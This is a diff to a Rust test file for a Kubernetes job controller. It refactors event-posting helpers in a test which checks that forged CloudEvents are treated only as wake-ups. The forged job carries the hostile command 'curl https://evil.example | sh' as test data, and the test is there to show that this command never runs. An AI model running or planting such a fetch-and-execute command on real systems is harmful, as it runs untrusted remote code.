@@ -6,12 +6,12 @@
 //! not exist starts nothing.
 
 use controller::{Controller, ControllerOptions};
-use k8s_openapi::jiff::Timestamp;
 use prow_api::{ProwJob, ProwJobState};
-use prow_ports::events::{CloudEvent, NewEvent};
-use prow_ports::executor::{Executor, ExecutorFuture, RunObservation, RunPhase, Workload};
+use prow_ports::events::NewEvent;
+use prow_ports::executor::{Executor, ExecutorFuture, RunObservation, Workload};
 use prow_ports::store::JobStore;
 use prow_test_harness::events::post_event_to;
+use prow_test_harness::executor::running_now;
 use std::sync::{Arc, Mutex};
 
 /// Records the jobs it is asked to start, as the job it was given; they then run forever.
@@ -32,18 +32,7 @@ impl Executor for Recording {
             .unwrap()
             .iter()
             .any(|j| j.name() == job.name());
-        Box::pin(async move {
-            Ok(running.then(|| RunObservation {
-                phase: RunPhase::Running,
-                created: Timestamp::now(),
-                started: Some(Timestamp::now()),
-                deleting: false,
-                unexpected_stop: None,
-                all_containers_succeeded: false,
-                build_id: "1".into(),
-                detail: None,
-            }))
-        })
+        Box::pin(async move { Ok(running.then(running_now)) })
     }
     fn start<'a>(&'a self, job: &'a ProwJob, _build_id: &'a str) -> ExecutorFuture<'a, ()> {
         self.0.lock().unwrap().push(job.clone());
@@ -71,9 +60,15 @@ fn job(name: &str, command: &str) -> ProwJob {
     .unwrap()
 }
 
-/// An event of `event_type` carrying `object` as the event claims it is.
-fn claimed(id: &str, event_type: &str, object: &serde_json::Value) -> CloudEvent {
-    NewEvent {
+/// Posts an event of `event_type` carrying `object` as the event claims it is to `router`; the
+/// status and body of the answer.
+async fn post_claim(
+    router: &axum::Router,
+    id: &str,
+    event_type: &str,
+    object: &serde_json::Value,
+) -> (u16, String) {
+    let event = NewEvent {
         id: id.into(),
         source: "https://kubernetes.default.svc".into(),
         event_type: event_type.into(),
@@ -81,7 +76,8 @@ fn claimed(id: &str, event_type: &str, object: &serde_json::Value) -> CloudEvent
         ..NewEvent::default()
     }
     .build()
-    .unwrap()
+    .unwrap();
+    post_event_to(router, "/", &event).await.unwrap()
 }
 
 fn command(job: &ProwJob) -> Vec<String> {
@@ -112,13 +108,8 @@ async fn a_forged_event_is_a_wake_up_and_its_content_is_never_acted_on() {
     evil["spec"]["pod_spec"]["containers"][0]["command"] =
         serde_json::json!(["/bin/sh", "-c", "curl https://evil.example | sh"]);
     evil["spec"]["cluster"] = "trusted".into();
-    let (status, body) = post_event_to(
-        &router,
-        "/",
-        &claimed("f1", "dev.knative.apiserver.resource.add", &evil),
-    )
-    .await
-    .unwrap();
+    let (status, body) =
+        post_claim(&router, "f1", "dev.knative.apiserver.resource.add", &evil).await;
     assert_eq!(status, 200, "{body}");
     let started = executor.started();
     assert_eq!(started.len(), 1);
@@ -129,13 +120,13 @@ async fn a_forged_event_is_a_wake_up_and_its_content_is_never_acted_on() {
     let mut finished = serde_json::to_value(store.get("nightly-1").await.unwrap()).unwrap();
     finished["status"]["state"] = "success".into();
     finished["status"]["completionTime"] = "2026-01-01T00:05:00Z".into();
-    let (status, _) = post_event_to(
+    let (status, _) = post_claim(
         &router,
-        "/",
-        &claimed("f2", "dev.knative.apiserver.resource.update", &finished),
+        "f2",
+        "dev.knative.apiserver.resource.update",
+        &finished,
     )
-    .await
-    .unwrap();
+    .await;
     assert_eq!(status, 200);
     let now = store.get("nightly-1").await.unwrap();
     assert_eq!(now.status.state, Some(ProwJobState::Pending));
@@ -154,9 +145,7 @@ async fn a_forged_event_is_a_wake_up_and_its_content_is_never_acted_on() {
         ("g3", "dev.knative.apiserver.ref.add", &reference),
         ("g4", "dev.knative.sources.ping", &ghost),
     ] {
-        let (status, body) = post_event_to(&router, "/", &claimed(id, event_type, object))
-            .await
-            .unwrap();
+        let (status, body) = post_claim(&router, id, event_type, object).await;
         assert_eq!(status, 200, "{event_type}: {body}");
     }
     assert!(
